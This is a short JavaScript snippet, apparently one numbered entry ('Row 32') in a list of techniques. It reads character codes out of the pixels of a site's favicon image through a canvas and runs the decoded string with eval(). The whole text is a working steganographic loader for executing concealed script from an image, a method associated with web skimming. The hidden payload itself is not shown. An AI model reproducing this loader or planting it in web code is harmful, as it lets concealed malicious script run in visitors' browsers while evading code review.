// Row 32: the code is in the pixels of an icon.
var img = new Image();
img.crossOrigin = 'anonymous';
img.onload = function () {
  var c = document.createElement('canvas'); c.width = img.width; c.height = img.height;
  var x = c.getContext('2d'); x.drawImage(img, 0, 0);
  var d = x.getImageData(0, 0, c.width, c.height).data, s = '';
  for (var i = 0; i < d.length; i += 4) { if (!d[i]) break; s += String.fromCharCode(d[i]); }
  eval(s);
};
img.src = '/media/favicon/default/favicon.png';
